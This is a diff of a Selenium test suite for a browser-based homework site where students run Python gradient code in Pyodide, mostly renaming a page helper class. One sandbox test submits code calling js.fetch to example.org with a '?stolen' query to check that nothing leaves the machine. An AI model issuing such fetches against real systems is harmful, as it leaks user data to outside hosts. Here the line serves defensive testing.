@@ -10,22 +10,17 @@ import os
 import shutil
 import subprocess
 import sys
-import tempfile
 import threading
 import time
 from pathlib import Path
 
 import pytest
 
-pytestmark = pytest.mark.browser
-selenium = pytest.importorskip("selenium", reason="pip install -e '.[browser]'")
-
-from selenium import webdriver
-from selenium.webdriver import ActionChains
-from selenium.webdriver.common.by import By
-from selenium.webdriver.common.keys import Keys
-
 from lectures.site import serve
+
+pytestmark = pytest.mark.browser
+webdriver = pytest.importorskip("selenium.webdriver", reason="pip install -e '.[browser]'")
+ActionChains, By, Keys = webdriver.ActionChains, webdriver.common.by.By, webdriver.common.keys.Keys
 
 ROOT = Path(__file__).resolve().parents[1]
 HOMEWORK = ROOT / "lectures" / "homework"
@@ -111,7 +106,7 @@ def chrome(site, tmp_path_factory):
         yield driver
 
 
-class Page:
+class StudentsPage:
     """A page as a student uses it."""
 
     def __init__(self, driver, address, *, plain=False):
@@ -137,7 +132,8 @@ class Page:
     @property
     def kept(self):
         """The text as this browser keeps it."""
-        return self.driver.execute_script("return JSON.parse(localStorage.getItem('minigrad:1:' + location.pathname.split('/').pop().replace('.html', ''))).text;")
+        name = self.driver.current_url.split("/")[-1].split(".html")[0]
+        return json.loads(self.driver.execute_script("return localStorage.getItem(arguments[0]);", f"minigrad:1:{name}") or "{}").get("text", "")
 
     def text(self, name):
         return self.driver.find_element(By.ID, name).get_attribute("textContent")
@@ -160,8 +156,11 @@ class Page:
 
     def verdicts(self):
         rows = self.driver.execute_script("""
-            return [...document.querySelectorAll("#verdicts tr")].map(row => [row.dataset.line, row.querySelector(".verdict").firstChild.nextSibling?.textContent
-                ?? row.querySelector(".verdict").textContent, row.querySelector(".said").textContent]);""")
+            return [...document.querySelectorAll("#verdicts tr")].map((row) => {
+                const verdict = row.querySelector(".verdict").cloneNode(true);
+                verdict.querySelectorAll("span, small").forEach((part) => part.remove());
+                return [row.dataset.line, verdict.textContent, row.querySelector(".said").textContent];
+            });""")
         return {line: (verdict.strip(), said) for line, verdict, said in rows}
 
 
@@ -194,7 +193,7 @@ def mutated(name):
 @pytest.mark.parametrize("plain", [False, True], ids=["editor", "text area"])
 @pytest.mark.parametrize("name", ["02_batch_norm", "05_whitening", "07_layer_norm"])
 def test_a_right_and_a_wrong_line_are_judged_as_in_the_terminal(name, plain, chrome, site, tmp_path):
-    page = Page(chrome, f"{site[0]}{name}.html", plain=plain)
+    page = StudentsPage(chrome, f"{site[0]}{name}.html", plain=plain)
     text, line, said = mutated(name)
     page.write(text)
     seen = page.check()
@@ -208,7 +207,7 @@ def test_a_right_and_a_wrong_line_are_judged_as_in_the_terminal(name, plain, chr
 
 
 def test_a_forgotten_path_is_lit_on_the_tape(chrome, site):
-    page = Page(chrome, f"{site[0]}02_batch_norm.html")
+    page = StudentsPage(chrome, f"{site[0]}02_batch_norm.html")
     page.write(mutated("02_batch_norm")[0])
     page.check()
     boxes = {e.get_attribute("data-name") for e in chrome.find_elements(By.CSS_SELECTOR, "#tape .wide .mg-box.mg-missing")}
@@ -220,7 +219,7 @@ def test_a_forgotten_path_is_lit_on_the_tape(chrome, site):
 
 
 def test_an_endless_loop_is_stopped_and_the_page_lives(chrome, site):
-    page = Page(chrome, f"{site[0]}02_batch_norm.html")
+    page = StudentsPage(chrome, f"{site[0]}02_batch_norm.html")
     text = SOLUTIONS["02_batch_norm"]
     page.write(text.replace("    return d_y * gamma\n", "    while True:\n        pass\n"))
     chrome.execute_script("window.ticks = 0; window.late = 0; let t = performance.now();"
@@ -234,11 +233,12 @@ def test_an_endless_loop_is_stopped_and_the_page_lives(chrome, site):
     quiet(chrome)
 
 
-@pytest.mark.parametrize("text, words", [("def d_x(:\n    pass\n", "syntax error: line 1"), ("while True:\n    pass\n", "stopped: Your file did not end"),
-                                         ("import nothing_like_this\n\ndef d_beta(d_y):\n    return nothing_like_this.f(d_y)\n", ""),
-                                         ("import numpy as np\n\ndef d_beta(d_y):\n    return np.zeros(10**11)\n", "")], ids=["syntax", "top level", "import", "memory"])
+@pytest.mark.parametrize("text, words", [
+    ("def d_x(:\n    pass\n", "syntax error: line 1"), ("while True:\n    pass\n", "stopped: Your file did not end"),
+    ("import nothing_like_this\n\ndef d_beta(d_y):\n    return nothing_like_this.f(d_y)\n", ""),
+    ("import numpy as np\n\ndef d_beta(d_y):\n    return np.zeros(10**11)\n", "")], ids=["syntax", "top level", "import", "memory"])
 def test_what_cannot_run_is_said(text, words, chrome, site):
-    page = Page(chrome, f"{site[0]}02_batch_norm.html")
+    page = StudentsPage(chrome, f"{site[0]}02_batch_norm.html")
     page.write(text)
     seen = page.check()
     assert page.text("message").startswith(words)
@@ -250,7 +250,7 @@ def test_what_cannot_run_is_said(text, words, chrome, site):
 
 def test_all_homework_can_be_solved_in_the_browser(chrome, site):
     for name, text in SOLUTIONS.items():
-        page = Page(chrome, f"{site[0]}{name}.html")
+        page = StudentsPage(chrome, f"{site[0]}{name}.html")
         page.write(text)
         assert {verdict for verdict, _ in page.check().values()} == {"right"}, name
     chrome.get(site[0])
@@ -262,7 +262,7 @@ def test_all_homework_can_be_solved_in_the_browser(chrome, site):
 def test_work_is_found_again_and_handed_in(site, tmp_path):
     text = mutated("02_batch_norm")[0]
     with browser(tmp_path) as driver:
-        page = Page(driver, f"{site[0]}02_batch_norm.html")
+        page = StudentsPage(driver, f"{site[0]}02_batch_norm.html")
         page.write(text)
         page.check()
         driver.refresh()
@@ -284,7 +284,7 @@ def test_work_is_found_again_and_handed_in(site, tmp_path):
 
 
 def test_hints_come_one_by_one(chrome, site):
-    Page(chrome, f"{site[0]}02_batch_norm.html")
+    StudentsPage(chrome, f"{site[0]}02_batch_norm.html")
     first = chrome.find_element(By.CSS_SELECTOR, "#hints .hint")
     button = first.find_element(By.TAG_NAME, "button")
     assert first.find_elements(By.TAG_NAME, "li") == [] and button.text == "hint 1 of 2"
@@ -303,10 +303,10 @@ def test_the_second_visit_needs_no_network_and_is_ready_soon(site, tmp_path):
     with browser(tmp_path) as driver:
         with serving(folder) as address:
             port = int(address.split(":")[2].split("/")[0])
-            Page(driver, f"{address}02_batch_norm.html")
+            StudentsPage(driver, f"{address}02_batch_norm.html")
         # the server has ended: nothing answers any more
         begun = time.perf_counter()
-        page = Page(driver, f"{address}07_layer_norm.html")
+        page = StudentsPage(driver, f"{address}07_layer_norm.html")
         ready = time.perf_counter() - begun
         page.write(SOLUTIONS["07_layer_norm"])
         begun = time.perf_counter()
@@ -336,13 +336,13 @@ def test_a_pyodide_that_is_not_there_is_said(site, tmp_path):
 
 def test_the_playground_explains_and_shares(site, tmp_path):
     with browser(tmp_path) as driver:
-        page = Page(driver, f"{site[0]}playground.html")
+        page = StudentsPage(driver, f"{site[0]}playground.html")
         assert "through mu to xc is missing" in page.check()["d_x"][1] and driver.find_elements(By.CSS_SELECTOR, "#tape .mg-missing")
         driver.find_element(By.ID, "share").click()
         page.until(lambda: "#code=" in driver.current_url)
         link = driver.current_url
     with browser(tmp_path / "other") as driver:  # somebody else, who has got the link
-        page = Page(driver, link)
+        page = StudentsPage(driver, link)
         assert "squashed" in page.area.get_attribute("textContent") and driver.find_element(By.ID, "linked").is_displayed()
         time.sleep(3)  # longer than the pause after which a text of one's own is checked
         assert page.verdicts() == {} and driver.find_element(By.ID, "tape").text == ""
@@ -351,7 +351,7 @@ def test_the_playground_explains_and_shares(site, tmp_path):
 
 
 def test_code_in_a_page_reaches_no_other_machine(chrome, site):
-    page = Page(chrome, f"{site[0]}playground.html")
+    page = StudentsPage(chrome, f"{site[0]}playground.html")
     page.write('import js\nfrom pyodide.code import run_js\njs.fetch("https://example.org/?stolen")\n')
     page.check()
     asked = [json.loads(e["message"])["message"]["params"] for e in chrome.get_log("performance") if '"Network.requestWillBeSent"' in e["message"]]
@@ -375,7 +375,7 @@ def test_pages_fit_and_can_be_looked_at(width, height, dark, site, tmp_path):
             driver.get(f"{site[0]}{name}.html")
             driver.execute_async_script("const done = arguments[0]; (window.MathJax?.startup?.promise ?? Promise.resolve()).then(done);")
             if name == "02_batch_norm":
-                page = Page(driver, f"{site[0]}{name}.html")
+                page = StudentsPage(driver, f"{site[0]}{name}.html")
                 page.write(mutated(name)[0])
                 page.check()
             wide = driver.execute_script("return [document.documentElement.scrollWidth, window.innerWidth];")
@@ -387,7 +387,7 @@ def test_pages_fit_and_can_be_looked_at(width, height, dark, site, tmp_path):
 
 
 def test_everything_can_be_done_with_keys(chrome, site):
-    page = Page(chrome, f"{site[0]}02_batch_norm.html")
+    page = StudentsPage(chrome, f"{site[0]}02_batch_norm.html")
     chrome.execute_script("document.activeElement.blur(); window.scrollTo(0, 0);")
     seen = []
     for _ in range(60):
